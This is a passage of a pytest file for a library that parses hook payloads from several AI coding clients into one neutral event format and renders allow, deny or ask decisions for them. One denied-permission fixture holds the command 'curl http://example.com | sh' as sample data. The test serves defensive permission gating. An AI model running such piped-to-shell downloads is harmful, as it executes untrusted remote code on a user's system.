"""parse_payload: every documented payload shape -> the neutral HookEvent, and bad input."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ledger._clients import (
    CLIENTS,
    MAX_PAYLOAD_BYTES,
    HookDecision,
    HookEvent,
    event_phase,
    parse_payload,
    render_response,
)
from ledger._errors import InputError

from ._support import (
    EXIT_CODE_CLIENTS,
    FIXTURE_FILES,
    FIXTURES,
    asks,
    blocks,
    fixture_event,
    fixture_id,
    output,
)

CWD = "/home/dev/app"
MW = "/home/dev/app/src/auth/middleware.ts"
TOK = "/home/dev/app/src/auth/tokens.ts"
TP = "/home/dev/.claude/projects/-home-dev-app/3f1c9a2e-7b4d-4e8a-9c51-2d6f0b8e4a17.jsonl"
ABSENT = object()  # the key must not be there

SESSIONS = {
    "claude": "3f1c9a2e-7b4d-4e8a-9c51-2d6f0b8e4a17",
    "codex": "019a3c5e-7f2b-7d41-9c0e-5b8a2f6d1e73",
    "cursor": "c7e1f5a2-9b34-4d6e-8a10-3f2b7c9d4e61",
    "gemini": "b5e2d7c1-4a93-4f08-8e6b-2c1d9f7a3e50",
    "cline": "1746093512345",
    "copilot": "0f6a2c4e-8b1d-4e37-9a5c-2d7e1b3f9c80",
    "antigravity": "2bb3613b-f2a2-4573-9282-e389ac224bda",
    "windsurf": "a3f9c2e1-5b7d-4e8a-9c10-2d6f0b8e4a71",
    "vscode": "7d2e9c41-3b5a-4f68-8e10-6c2b9f4a1d35",
}

# fixture -> (neutral event, phase, neutral tool, {dotted field path: expected value}).
EXPECTED: dict[str, tuple[str, str, str | None, dict[str, Any]]] = {
    # --- VS Code's agent hooks (microsoft/vscode-docs; sources in each file) ------------------
    "vscode/PreToolUse-editFiles": (
        "PreToolUse",
        "pre",
        "editFiles",
        {"tool_input.files": ["src/auth/jwt.ts"], "tool_use_id": "tool-123", "cwd": CWD},
    ),
    "vscode/PreToolUse-runInTerminal": (
        "PreToolUse",
        "pre",
        "Bash",
        {"tool_input.command": "rm -rf dist"},
    ),
    "vscode/PostToolUse-editFiles": (
        "PostToolUse",
        "post",
        "editFiles",
        {"tool_response": "File edited successfully"},
    ),
    "vscode/SessionStart-new": ("SessionStart", "other", None, {"source": "new"}),
    "vscode/UserPromptSubmit-prompt": (
        "UserPromptSubmit",
        "other",
        None,
        {"prompt": "Harden the JWT code"},
    ),
    "vscode/Stop-basic": ("Stop", "other", None, {}),
    "vscode/SubagentStop-plan": ("SubagentStop", "other", None, {"agent_type": "Plan"}),
    # --- Windsurf's Cascade hooks (docs.windsurf.com/windsurf/cascade/hooks) -------------------
    "windsurf/pre_run_command-rm": (
        "PreToolUse",
        "pre",
        "Bash",
        {"tool_input.command": "rm -rf dist", "cwd": "/home/dev/app", "tool_use_id": "exec-101"},
    ),
    "windsurf/post_run_command-test": (
        "PostToolUse",
        "post",
        "Bash",
        {"tool_input.command": "npm test"},
    ),
    "windsurf/pre_write_code-edit": (
        "PreToolUse",
        "pre",
        "Edit",
        {
            "tool_input.file_path": "/home/dev/app/src/auth/jwt.ts",
            "tool_input.edits.0.new_string": "ttl = 30",
        },
    ),
    "windsurf/post_write_code-edit": (
        "PostToolUse",
        "post",
        "Edit",
        {"tool_input.file_path": "/home/dev/app/src/auth/jwt.ts"},
    ),
    "windsurf/pre_read_code-file": (
        "PreToolUse",
        "pre",
        "Read",
        {"tool_input.file_path": "/home/dev/app/README.md"},
    ),
    "windsurf/pre_mcp_tool_use-github": (
        "PreToolUse",
        "pre",
        "mcp__github__create_issue",
        {"tool_input.title": "Bug"},
    ),
    "windsurf/post_mcp_tool_use-github": (
        "PostToolUse",
        "post",
        "mcp__github__create_issue",
        {"tool_response": "issue #12 created"},
    ),
    "windsurf/pre_user_prompt-prompt": (
        "UserPromptSubmit",
        "other",
        None,
        {"prompt": "Harden the JWT code"},
    ),
    "windsurf/post_cascade_response-response": ("Stop", "other", None, {}),
    # --- Antigravity CLI (camelCase, toolCall; sources in each file and the README beside) -----
    "antigravity/PreToolUse-run-command": (
        "PreToolUse",
        "pre",
        "Bash",
        {"tool_input.command": "rm -rf dist", "cwd": "/home/dev/app", "model": "gemini-3.5-flash"},
    ),
    "antigravity/PreToolUse-write-to-file": (
        "PreToolUse",
        "pre",
        "Write",
        {
            "tool_input.file_path": "/home/dev/app/src/auth/jwt.ts",
            "tool_input.content": "export const ttl = 60;\n",
            "tool_input.TargetFile": ABSENT,
        },
    ),
    "antigravity/PreToolUse-replace-file-content": (
        "PreToolUse",
        "pre",
        "Edit",
        {
            "tool_input.file_path": "/home/dev/app/src/auth/jwt.ts",
            "tool_input.old_string": "ttl = 60",
            "tool_input.new_string": "ttl = 30",
        },
    ),
    "antigravity/PreToolUse-view-file": (
        "PreToolUse",
        "pre",
        "Read",
        {"tool_input.file_path": "/home/dev/app/README.md", "cwd": None},
    ),
    "antigravity/PostToolUse-run-command": (
        "PostToolUse",
        "post",
        "Bash",
        {"error": None, "tool_input.command": "npm test"},
    ),
    "antigravity/PreInvocation-first-turn": ("UserPromptSubmit", "other", None, {}),
    "antigravity/PostInvocation-basic": ("PostInvocation", "other", None, {}),
    "antigravity/Stop-no-tool-call": ("Stop", "other", None, {"event_reason": "NO_TOOL_CALL"}),
    # --- GitHub Copilot CLI (camelCase; fixtures from GitHub's docs, sources in each file) -----
    "copilot/agentStop-end-turn": ("Stop", "other", None, {}),
    "copilot/errorOccurred-timeout": ("errorOccurred", "other", None, {"error": "Network timeout"}),
    "copilot/postToolUse-bash-failure": (
        "PostToolUseFailure",
        "post",
        "Bash",
        {"error": "2 tests failed", "tool_input.command": "npm test"},
    ),
    "copilot/postToolUse-bash-success": (
        "PostToolUse",
        "post",
        "Bash",
        {
            "session_id": None,
            "tool_input.command": "npm test",
            "tool_response": "All tests passed (15/15)",
            "error": None,
        },
    ),
    "copilot/postToolUseFailure-bash": (
        "PostToolUseFailure",
        "post",
        "Bash",
        {"error": "cat: src/auth/missing.ts: No such file or directory"},
    ),
    "copilot/preToolUse-bash-args-string": (
        "PreToolUse",
        "pre",
        "Bash",
        {
            "session_id": None,
            "tool_input.command": "rm -rf dist",
            "tool_input.description": "Clean build directory",
        },
    ),
    "copilot/preToolUse-create": (
        "PreToolUse",
        "pre",
        "Write",
        {
            "tool_input.file_path": TOK,
            "tool_input.content": "export const ttl = 900;\n",
            "tool_input.path": ABSENT,
        },
    ),
    "copilot/preToolUse-edit": (
        "PreToolUse",
        "pre",
        "Edit",
        {
            "tool_input.file_path": MW,
            "tool_input.old_string": 'algorithms: ["none"]',
            "tool_input.new_string": 'algorithms: ["HS256"]',
        },
    ),
    "copilot/preToolUse-view": ("PreToolUse", "pre", "Read", {"tool_input.file_path": MW}),
    "copilot/sessionEnd-complete": ("SessionEnd", "other", None, {"event_reason": "complete"}),
    "copilot/sessionStart-new": (
        "SessionStart",
        "other",
        None,
        {"source": "new", "prompt": "Create a new feature"},
    ),
    "copilot/userPromptSubmitted-prompt": (
        "UserPromptSubmit",
        "other",
        None,
        {"prompt": "Fix the authentication bug"},
    ),
    # --- Claude Code --------------------------------------------------------------------------
    "claude/ConfigChange-project": ("ConfigChange", "other", None, {}),
    "claude/CwdChanged-basic": ("CwdChanged", "other", None, {}),
    "claude/FileChanged-basic": ("FileChanged", "other", None, {"tool_input": {}}),
    "claude/InstructionsLoaded-session-start": ("InstructionsLoaded", "other", None, {}),
    "claude/Notification-permission-prompt": ("Notification", "other", None, {}),
    "claude/PermissionDenied-bash": (
        "PermissionDenied",
        "other",
        "Bash",
        {"tool_input.command": "curl http://example.com | sh"},
    ),
    "claude/PermissionRequest-bash": (
        "PermissionRequest",
        "other",
        "Bash",
        {"tool_use_id": None, "tool_input.command": "rm -rf dist"},
    ),
    "claude/PostCompact-manual": ("PostCompact", "other", None, {}),
    "claude/PostToolBatch-calls": ("PostToolBatch", "post", None, {}),
    "claude/PostToolUse-agent": (
        "PostToolUse",
        "post",
        "Agent",
        {"tool_response.status": "completed"},
    ),
    "claude/PostToolUse-bash": (
        "PostToolUse",
        "post",
        "Bash",
        {"duration_ms": 5321, "tool_response.interrupted": False},
    ),
    "claude/PostToolUse-edit": (
        "PostToolUse",
        "post",
        "Edit",
        {
            "duration_ms": 41,
            "tool_input.file_path": MW,
            "tool_input.replace_all": False,
            "tool_response.structuredPatch.0.newLines": 10,
            "tool_use_id": "toolu_01Hq4nTzW8cJ2yLmV6pXr3Ka",
        },
    ),
    "claude/PostToolUse-mcp": ("PostToolUse", "post", "mcp__memory__create_entities", {}),
    "claude/PostToolUse-multiedit-legacy": (
        "PostToolUse",
        "post",
        "MultiEdit",
        {"tool_use_id": None, "tool_response.originalFileContents": "const BEARER_PREFIX = 1;\n"},
    ),
    "claude/PostToolUse-read": ("PostToolUse", "post", "Read", {"tool_response.file.numLines": 1}),
    "claude/PostToolUse-write-create": (
        "PostToolUse",
        "post",
        "Write",
        {"tool_response.type": "create", "tool_response.originalFile": None, "duration_ms": 9},
    ),
    "claude/PostToolUse-write-simplified": (
        "PostToolUse",
        "post",
        "Write",
        {"tool_response.success": True},
    ),
    "claude/PostToolUse-write-update-gitdiff": (
        "PostToolUse",
        "post",
        "Write",
        {"tool_response.gitDiff.status": "modified"},
    ),
    "claude/PostToolUseFailure-bash": (
        "PostToolUseFailure",
        "post",
        "Bash",
        {"error": "Exit code 1\nFAIL src/auth/middleware.test.ts", "duration_ms": 2210},
    ),
    "claude/PreCompact-auto": ("PreCompact", "other", None, {}),
    "claude/PreToolUse-agent": ("PreToolUse", "pre", "Agent", {"raw_tool_name": "Agent"}),
    "claude/PreToolUse-bash-background": (
        "PreToolUse",
        "pre",
        "Bash",
        {"tool_input.run_in_background": True},
    ),
    "claude/PreToolUse-bash": (
        "PreToolUse",
        "pre",
        "Bash",
        {
            "tool_input.command": "npm test -- src/auth",
            "tool_input.timeout": 120000,
            "tool_use_id": "toolu_01Tg2XeP7vRm4HcK9sLq6WnB",
            "cwd": CWD,
            "transcript_path": TP,
            "agent_id": None,
        },
    ),
    "claude/PreToolUse-edit-replace-all": (
        "PreToolUse",
        "pre",
        "Edit",
        {"tool_input.replace_all": True, "tool_input.old_string": "BEARER_PREFIX"},
    ),
    "claude/PreToolUse-edit": ("PreToolUse", "pre", "Edit", {"tool_input.file_path": MW}),
    "claude/PreToolUse-glob": ("PreToolUse", "pre", "Glob", {"tool_input.pattern": "src/**/*.ts"}),
    "claude/PreToolUse-grep": ("PreToolUse", "pre", "Grep", {"tool_input.-i": True}),
    "claude/PreToolUse-mcp-plugin": (
        "PreToolUse",
        "pre",
        "mcp__plugin_github_github__create_issue",
        {"tool_input.repo": "app"},
    ),
    "claude/PreToolUse-mcp": (
        "PreToolUse",
        "pre",
        "mcp__memory__create_entities",
        {"tool_input.entities.0.name": "auth"},
    ),
    "claude/PreToolUse-multiedit-legacy": (
        "PreToolUse",
        "pre",
        "MultiEdit",
        {"tool_use_id": None, "tool_input.edits.0.replace_all": True, "tool_input.file_path": MW},
    ),
    "claude/PreToolUse-notebookedit": (
        "PreToolUse",
        "pre",
        "NotebookEdit",
        {"tool_input.notebook_path": "/home/dev/app/notebooks/auth.ipynb"},
    ),
    "claude/PreToolUse-powershell": ("PreToolUse", "pre", "PowerShell", {}),
    "claude/PreToolUse-read": ("PreToolUse", "pre", "Read", {"tool_input.offset": 10}),
    "claude/PreToolUse-subagent-write": (
        "PreToolUse",
        "pre",
        "Write",
        {"agent_id": "a1b2c3d4e5f6", "agent_type": "code-reviewer"},
    ),
    "claude/PreToolUse-task-alias": ("PreToolUse", "pre", "Agent", {"raw_tool_name": "Task"}),
    "claude/PreToolUse-write": ("PreToolUse", "pre", "Write", {"tool_input.file_path": TOK}),
    "claude/SessionEnd-logout": ("SessionEnd", "other", None, {}),
    "claude/SessionStart-resume-agent": (
        "SessionStart",
        "other",
        None,
        {"agent_type": "security-reviewer", "model": None},
    ),
    "claude/SessionStart-startup": (
        "SessionStart",
        "other",
        None,
        {"model": "claude-sonnet-4-5-20250929"},
    ),
    "claude/Stop-basic": ("Stop", "other", None, {}),
    "claude/StopFailure-error": ("StopFailure", "other", None, {"error": "rate_limit"}),
    "claude/SubagentStart-basic": ("SubagentStart", "other", None, {"agent_id": "a1b2c3d4e5f6"}),
    "claude/SubagentStop-basic": ("SubagentStop", "other", None, {"agent_type": "code-reviewer"}),
    "claude/UserPromptSubmit-prompt": (
        "UserPromptSubmit",
        "other",
        None,
        {"prompt": "Harden the JWT check in src/auth/middleware.ts: pin the algorithm to HS256."},
    ),
    "claude/UserPromptSubmit-session-title": (
        "UserPromptSubmit",
        "other",
        None,
        {"prompt": "Now add tests."},
    ),
    # --- Codex --------------------------------------------------------------------------------
    "codex/PermissionRequest-bash": ("PermissionRequest", "other", "Bash", {}),
    "codex/PostToolUse-apply-patch": (
        "PostToolUse",
        "post",
        "ApplyPatch",
        {"raw_tool_name": "apply_patch", "tool_input.command": ABSENT},
    ),
    "codex/PostToolUse-bash-unconfirmed-response": ("PostToolUse", "post", "Bash", {}),
    "codex/PreCompact-auto": ("PreCompact", "other", None, {}),
    "codex/PreToolUse-apply-patch": (
        "PreToolUse",
        "pre",
        "ApplyPatch",
        {"raw_tool_name": "apply_patch", "tool_input.command": ABSENT},
    ),
    "codex/PreToolUse-bash": (
        "PreToolUse",
        "pre",
        "Bash",
        {
            "tool_input.command": "npm test",
            "model": "gpt-5-codex",
            "tool_use_id": "call_5b9d2c7e41a0",
        },
    ),
    "codex/PreToolUse-mcp": ("PreToolUse", "pre", "mcp__github__create_issue", {}),
    "codex/SessionStart-startup": ("SessionStart", "other", None, {}),
    "codex/Stop-basic": ("Stop", "other", None, {}),
    "codex/UserPromptSubmit-prompt": (
        "UserPromptSubmit",
        "other",
        None,
        {"prompt": "Pin the JWT algorithm."},
    ),
    # --- Cursor -------------------------------------------------------------------------------
    "cursor/afterAgentResponse-text": ("afterAgentResponse", "other", None, {}),
    "cursor/afterAgentThought-text": ("afterAgentThought", "other", None, {"duration_ms": 5000}),
    "cursor/afterFileEdit-multi": (
        "PostToolUse",
        "post",
        "Edit",
        {
            "raw_tool_name": None,
            "tool_input.file_path": MW,
            "tool_input.edits.0.new_string": "BEARER",
        },
    ),
    "cursor/afterFileEdit-single": ("PostToolUse", "post", "Edit", {"tool_input.file_path": MW}),
    "cursor/afterMCPExecution-basic": (
        "PostToolUse",
        "post",
        "mcp__unknown__create_issue",
        {
            "tool_input.title": "JWT",
            "tool_response.content.0.text": "created #42",
            "duration_ms": 850,
        },
    ),
    "cursor/afterShellExecution-basic": (
        "PostToolUse",
        "post",
        "Bash",
        {
            "tool_input.command": "npm test -- src/auth",
            "tool_response": "PASS src/auth\n",
            "duration_ms": 1234,
        },
    ),
    "cursor/afterTabFileEdit-range": (
        "afterTabFileEdit",
        "post",
        "Edit",
        {"tool_input.edits.0.range.start_line_number": 21},
    ),
    "cursor/beforeMCPExecution-command": (
        "PreToolUse",
        "pre",
        "mcp__unknown__create_entities",
        {"tool_input.entities.0.name": "auth"},
    ),
    "cursor/beforeMCPExecution-url": (
        "PreToolUse",
        "pre",
        "mcp__unknown__create_issue",
        {"tool_input.owner": "acme", "raw_tool_name": "create_issue"},
    ),
    "cursor/beforeReadFile-attachments": (
        "PreToolUse",
        "pre",
        "Read",
        {"tool_input.file_path": "/home/dev/app/.env", "tool_input.content": ABSENT},
    ),
    "cursor/beforeShellExecution-basic": (
        "PreToolUse",
        "pre",
        "Bash",
        {"tool_input": {"command": "npm test -- src/auth"}, "cwd": CWD, "raw_tool_name": None},
    ),
    "cursor/beforeSubmitPrompt-attachments": (
        "UserPromptSubmit",
        "other",
        None,
        {"prompt": "Pin the JWT algorithm to HS256"},
    ),
    "cursor/beforeTabFileRead-basic": ("beforeTabFileRead", "other", "Read", {}),
    "cursor/postToolUse-shell": (
        "PostToolUse",
        "post",
        "Bash",
        {"raw_tool_name": "Shell", "tool_response.exitCode": 0, "duration_ms": 5432},
    ),
    "cursor/postToolUseFailure-timeout": (
        "PostToolUseFailure",
        "post",
        "Bash",
        {"error": "Command timed out after 30s", "duration_ms": 30000},
    ),
    "cursor/preCompact-basic": ("PreCompact", "other", None, {}),
    "cursor/preToolUse-mcp": (
        "PreToolUse",
        "pre",
        "mcp__unknown__create_issue",
        {"raw_tool_name": "MCP:create_issue"},
    ),
    "cursor/preToolUse-shell": (
        "PreToolUse",
        "pre",
        "Bash",
        {"tool_input.command": "npm install", "tool_use_id": "abc123", "cwd": CWD},
    ),
    "cursor/preToolUse-task": ("PreToolUse", "pre", "Agent", {"raw_tool_name": "Task"}),
    "cursor/sessionEnd-basic": ("SessionEnd", "other", None, {"duration_ms": 600000}),
    "cursor/sessionStart-basic": ("SessionStart", "other", None, {}),
    "cursor/stop-completed": ("Stop", "other", None, {}),
    "cursor/subagentStart-basic": (
        "SubagentStart",
        "other",
        None,
        {"agent_id": "abc-123", "agent_type": "generalPurpose"},
    ),
    "cursor/subagentStop-basic": (
        "SubagentStop",
        "other",
        None,
        {"agent_type": "generalPurpose", "duration_ms": 45000},
    ),
    "cursor/workspaceOpen-basic": ("workspaceOpen", "other", None, {"session_id": None}),
    # --- Gemini CLI ---------------------------------------------------------------------------
    "gemini/AfterAgent-response": (
        "Stop",
        "other",
        None,
        {"prompt": "Pin the JWT algorithm to HS256"},
    ),
    "gemini/AfterTool-error": (
        "PostToolUseFailure",
        "post",
        "Edit",
        {"error": "0 occurrences found"},
    ),
    "gemini/AfterTool-object-response": (
        "PostToolUse",
        "post",
        "Write",
        {"tool_response.returnDisplay": "Wrote tokens.ts", "error": None},
    ),
    "gemini/AfterTool-string-response": (
        "PostToolUse",
        "post",
        "Bash",
        {"error": None, "tool_response": "Command: npm test\nStdout: ok\nExit Code: 0"},
    ),
    "gemini/BeforeAgent-prompt": (
        "UserPromptSubmit",
        "other",
        None,
        {"prompt": "Pin the JWT algorithm to HS256"},
    ),
    "gemini/BeforeModel-request": ("BeforeModel", "other", None, {}),
    "gemini/BeforeTool-mcp": ("PreToolUse", "pre", "mcp__github__create_issue", {}),
    "gemini/BeforeTool-read-file": (
        "PreToolUse",
        "pre",
        "Read",
        {"tool_input.file_path": MW, "tool_input.absolute_path": ABSENT},
    ),
    "gemini/BeforeTool-replace": (
        "PreToolUse",
        "pre",
        "Edit",
        {"tool_input.file_path": MW, "tool_input.expected_replacements": 1},
    ),
    "gemini/BeforeTool-shell": ("PreToolUse", "pre", "Bash", {"tool_input.command": "npm test"}),
    "gemini/BeforeTool-write-file": ("PreToolUse", "pre", "Write", {"tool_input.file_path": TOK}),
    "gemini/BeforeToolSelection-request": ("BeforeToolSelection", "other", None, {}),
    "gemini/Notification-tool-permission": ("Notification", "other", None, {}),
    "gemini/PreCompress-auto": ("PreCompact", "other", None, {}),
    "gemini/SessionEnd-exit": ("SessionEnd", "other", None, {}),
    "gemini/SessionStart-startup": ("SessionStart", "other", None, {"cwd": CWD}),
    # --- Cline --------------------------------------------------------------------------------
    "cline/PostToolUse-failure": (
        "PostToolUseFailure",
        "post",
        "Bash",
        {"error": "Command failed with exit code 1", "duration_ms": 5120},
    ),
    "cline/PostToolUse-success": (
        "PostToolUse",
        "post",
        "Write",
        {
            "tool_input.file_path": TOK,
            "duration_ms": 37,
            "tool_response": "The content was successfully saved to src/auth/tokens.ts.",
            "error": None,
        },
    ),
    "cline/PreCompact-envelope-only": ("PreCompact", "other", None, {}),
    "cline/PreToolUse-execute-command": (
        "PreToolUse",
        "pre",
        "Bash",
        {"tool_input.command": "npm test", "raw_tool_name": "execute_command"},
    ),
    "cline/PreToolUse-list-files": ("PreToolUse", "pre", "list_files", {"tool_input.path": "src"}),
    "cline/PreToolUse-read-file": ("PreToolUse", "pre", "Read", {"tool_input.file_path": MW}),
    "cline/PreToolUse-replace-in-file-multi": (
        "PreToolUse",
        "pre",
        "Edit",
        {
            "tool_input.edits.1.new_string": 'const BEARER_PREFIX = "Bearer "; // RFC 6750',
            "tool_input.old_string": ABSENT,
        },
    ),
    "cline/PreToolUse-replace-in-file": (
        "PreToolUse",
        "pre",
        "Edit",
        {"tool_input.file_path": MW, "tool_input.edits": ABSENT},
    ),
    "cline/PreToolUse-use-mcp-tool": (
        "PreToolUse",
        "pre",
        "mcp__github__create_issue",
        {"tool_input": {"title": "JWT"}, "raw_tool_name": "use_mcp_tool"},
    ),
    "cline/PreToolUse-write-to-file": (
        "PreToolUse",
        "pre",
        "Write",
        {"tool_input.file_path": TOK, "tool_input.path": ABSENT, "cwd": CWD},
    ),
    "cline/TaskCancel-basic": ("TaskCancel", "other", None, {}),
    "cline/TaskComplete-basic": ("TaskComplete", "other", None, {}),
    "cline/TaskResume-basic": ("SessionStart", "other", None, {}),
    "cline/TaskStart-basic": ("SessionStart", "other", None, {"prompt": "Harden the JWT check"}),
    "cline/UserPromptSubmit-prompt": (
        "UserPromptSubmit",
        "other",
        None,
        {"prompt": "Pin the JWT algorithm to HS256"},
    ),
}


def _lookup(value: Any, dotted: str) -> Any:
    for part in dotted.split("."):
        if isinstance(value, list):
            value = value[int(part)]
        elif isinstance(value, dict):
            if part not in value:
                return ABSENT
            value = value[part]
        else:
            value = getattr(value, part)
    return value


def _parse_fixture(path: Path):
    return parse_payload(path.parent.name, path.read_bytes(), expected_event=fixture_event(path))


def test_fixture_set_is_complete():
    """40+ fixtures, every one with expectations, and every client covered."""
    ids = {fixture_id(path) for path in FIXTURE_FILES}
    assert len(ids) >= 40
    assert ids == set(EXPECTED), ids ^ set(EXPECTED)
    assert {path.parent.name for path in FIXTURE_FILES} == set(CLIENTS)


def test_fixture_neutral_fields(fixture_file: Path):
    client = fixture_file.parent.name
    raw = json.loads(fixture_file.read_bytes())
    event = _parse_fixture(fixture_file)
    name, phase, tool, fields = EXPECTED[fixture_id(fixture_file)]

    assert event.client == client
    assert event.client_event == (
        fixture_event(fixture_file)
        or raw.get("hook_event_name", raw.get("hookName", raw.get("agent_action_name")))
        or raw.get("hookEventName")
    )
    assert (event.event, event.phase, event.tool_name) == (name, phase, tool)
    assert event.phase == event_phase(client, event.client_event)
    assert event.raw == raw
    assert isinstance(event.tool_input, dict)
    if "session_id" not in fields:
        assert event.session_id == SESSIONS[client]
    if tool is None:
        assert event.raw_tool_name is None
    if "file_path" in event.tool_input:
        assert event.tool_input["file_path"].startswith("/")
    assert event.duration_ms is None or isinstance(event.duration_ms, int)
    for dotted, expected in fields.items():
        actual = _lookup(event, dotted)
        if expected is ABSENT:
            assert actual is ABSENT, dotted
        else:
            assert actual == expected, dotted


@pytest.mark.parametrize("permission", ["allow", "deny", "ask"])
def test_fixture_renders_each_permission(fixture_file: Path, permission: str):
    """Every fixture renders a valid answer; on tool-gating events the answer means what it says."""
    event = _parse_fixture(fixture_file)
    decision = HookDecision(permission=permission, reason="policy says so")  # type: ignore[arg-type]
    response = render_response(event.client, event, decision)
    if event.client in EXIT_CODE_CLIENTS and blocks(event, response):
        assert (response.exit_code, response.stdout) == (2, "")
        assert permission != "allow"
        assert "policy says so" in response.stderr
        return
    assert response.exit_code == 0
    assert response.stderr == ""
    out = output(response)
    if event.phase != "pre":
        if permission == "allow":
            assert not blocks(event, response)
        return
    if permission == "allow":
        assert not blocks(event, response)
    elif permission == "deny":
        assert blocks(event, response)
        assert "policy says so" in json.dumps(out)
    elif asks(event, response):
        assert event.client in ("claude", "codex", "cursor", "copilot", "antigravity", "vscode")
    else:
        assert blocks(event, response)
        assert "human must approve" in json.dumps(out)


def test_pretooluse_ask_is_native_where_the_client_has_it():
    for rel in (
        "claude/PreToolUse-bash",
        "cursor/beforeShellExecution-basic",
    ):
        event = _parse_fixture(FIXTURES / f"{rel}.json")
        response = render_response(event.client, event, HookDecision(permission="ask"))
        assert asks(event, response), rel
        assert not blocks(event, response), rel


def test_pretooluse_ask_blocks_where_the_client_does_not_enforce_it():
    # Codex speaks Claude Code's protocol but runs a command answered "ask" (tests/conformance).
    event = _parse_fixture(FIXTURES / "codex" / "PreToolUse-bash.json")
    response = render_response(event.client, event, HookDecision(permission="ask"))
    assert blocks(event, response)


# --- specific shapes -------------------------------------------------------------------------


def test_codex_apply_patch_body_becomes_patch():
    path = FIXTURES / "codex" / "PreToolUse-apply-patch.json"
    event = _parse_fixture(path)
    body = json.loads(path.read_bytes())["tool_input"]["command"]
    assert event.tool_input == {"patch": body}
    assert event.tool_input["patch"].startswith("*** Begin Patch\n")


def test_cline_single_search_replace_block_becomes_old_new_strings():
    event = _parse_fixture(FIXTURES / "cline" / "PreToolUse-replace-in-file.json")
    assert event.tool_input["old_string"].startswith("    const payload = jwt.verify(token")
    assert event.tool_input["new_string"].endswith("as { sub: string; roles?: string[] };")
    assert '"HS256"' in event.tool_input["new_string"]
    assert "diff" in event.tool_input  # the raw body stays for audit


def test_cline_legacy_markers_and_malformed_diff():
    legacy = "<<<<<<< SEARCH\na\n=======\nb\n>>>>>>> REPLACE\n"
    broken = "------- SEARCH\na\n=======\nb\n"  # no REPLACE marker
    for diff, expected in ((legacy, ("a", "b")), (broken, None)):
        payload = {
            "hookName": "PreToolUse",
            "taskId": "t",
            "workspaceRoots": ["/w"],
            "preToolUse": {
                "toolName": "replace_in_file",
                "parameters": {"path": "x", "diff": diff},
            },
        }
        event = parse_payload("cline", json.dumps(payload).encode())
        got = (event.tool_input.get("old_string"), event.tool_input.get("new_string"))
        assert got == (expected or (None, None))
        assert event.tool_input["file_path"] == "/w/x"


def test_cursor_mcp_names():
    def name(tool: str, event: str = "preToolUse") -> str | None:
        payload = {"hook_event_name": event, "conversation_id": "c", "tool_name": tool}
        return parse_payload("cursor", json.dumps(payload).encode()).tool_name

    assert name("MCP:github:create_issue") == "mcp__github__create_issue"
    assert name("MCP:create_issue") == "mcp__unknown__create_issue"
    assert name("mcp__memory__read") == "mcp__memory__read"
    assert name("create_issue", "beforeMCPExecution") == "mcp__unknown__create_issue"
    assert name("Grep") == "Grep"
    assert name("SomethingNew") == "SomethingNew"


def test_cursor_mcp_tool_input_string_that_is_not_json_is_kept():
    payload = {
        "hook_event_name": "beforeMCPExecution",
        "conversation_id": "c",
        "tool_name": "t",
        "tool_input": "not json {",
    }
    event = parse_payload("cursor", json.dumps(payload).encode())
    assert event.tool_input == {"raw_input": "not json {"}


def test_cursor_session_id_falls_back_to_session_id_and_cwd_to_workspace_root():
    payload = {
        "hook_event_name": "sessionStart",
        "session_id": "s-1",
        "workspace_roots": ["/a", "/b"],
    }
    event = parse_payload("cursor", json.dumps(payload).encode())
    assert (event.session_id, event.cwd) == ("s-1", "/a")


def test_relative_file_paths_are_made_absolute_against_cwd():
    def path(client: str, payload: dict[str, Any]) -> str:
        value = parse_payload(client, json.dumps(payload).encode()).tool_input["file_path"]
        assert isinstance(value, str)
        return value

    gem = {"hook_event_name": "BeforeTool", "session_id": "s", "tool_name": "write_file"}
    assert (
        path("gemini", {**gem, "cwd": "/w", "tool_input": {"file_path": "a/../b.py"}}) == "/w/b.py"
    )
    assert path("gemini", {**gem, "cwd": "/w", "tool_input": {"file_path": "/abs.py"}}) == "/abs.py"
    assert path("gemini", {**gem, "tool_input": {"file_path": "rel.py"}}) == "rel.py"  # no cwd
    windows = {**gem, "cwd": "C:\\repo", "tool_input": {"file_path": "src\\a.py"}}
    assert path("gemini", windows) == "C:\\repo\\src\\a.py"
    escape = {**gem, "cwd": "/w/app", "tool_input": {"file_path": "../other/x.py"}}
    assert path("gemini", escape) == "/w/other/x.py"


def test_expected_event_names_a_payload_without_one():
    payload = json.dumps({"session_id": "s", "tool_name": "Bash", "tool_input": {"command": "ls"}})
    with pytest.raises(InputError, match="hook_event_name"):
        parse_payload("claude", payload.encode())
    event = parse_payload("claude", payload.encode(), expected_event="PreToolUse")
    assert (event.event, event.phase, event.tool_name) == ("PreToolUse", "pre", "Bash")


def test_cline_hook_name_inferred_from_the_nested_object():
    payload = {
        "taskId": "t",
        "postToolUse": {"toolName": "read_file", "parameters": {"path": "/a"}},
    }
    event = parse_payload("cline", json.dumps(payload).encode())
    assert (event.client_event, event.event, event.tool_name) == (
        "PostToolUse",
        "PostToolUse",
        "Read",
    )


# --- unknown events and tools give a sane neutral event ----------------------------------------


@pytest.mark.parametrize(
    ("client", "payload"),
    [
        ("claude", {"hook_event_name": "BrandNewEvent", "session_id": "s", "x": 1}),
        ("codex", {"hook_event_name": "BrandNewEvent", "session_id": "s"}),
        ("cursor", {"hook_event_name": "brandNewEvent", "conversation_id": "s"}),
        ("gemini", {"hook_event_name": "BrandNewEvent", "session_id": "s"}),
        ("cline", {"hookName": "BrandNewEvent", "taskId": "s", "brandNewEvent": {"a": 1}}),
    ],
)
def test_unknown_event_keeps_its_name(client: str, payload: dict[str, Any]):
    event = parse_payload(client, json.dumps(payload).encode())
    name = payload.get("hook_event_name", payload.get("hookName"))
    assert (event.event, event.client_event, event.phase) == (name, name, "other")
    assert event.session_id == "s"
    assert event.tool_name is None
    response = render_response(client, event, HookDecision(permission="deny", block=True))
    assert response.exit_code == 0
    output(response)


@pytest.mark.parametrize(
    ("client", "payload"),
    [
        (
            "claude",
            {"hook_event_name": "PreToolUse", "tool_name": "Frobnicate", "tool_input": {"a": 1}},
        ),
        (
            "gemini",
            {"hook_event_name": "BeforeTool", "tool_name": "frobnicate", "tool_input": {"a": 1}},
        ),
        (
            "cursor",
            {"hook_event_name": "preToolUse", "tool_name": "Frobnicate", "tool_input": {"a": 1}},
        ),
        (
            "cline",
            {
                "hookName": "PreToolUse",
                "preToolUse": {"toolName": "frobnicate", "parameters": {"a": 1}},
            },
        ),
    ],
)
def test_unknown_tool_keeps_its_name_and_input(client: str, payload: dict[str, Any]):
    event = parse_payload(client, json.dumps(payload).encode())
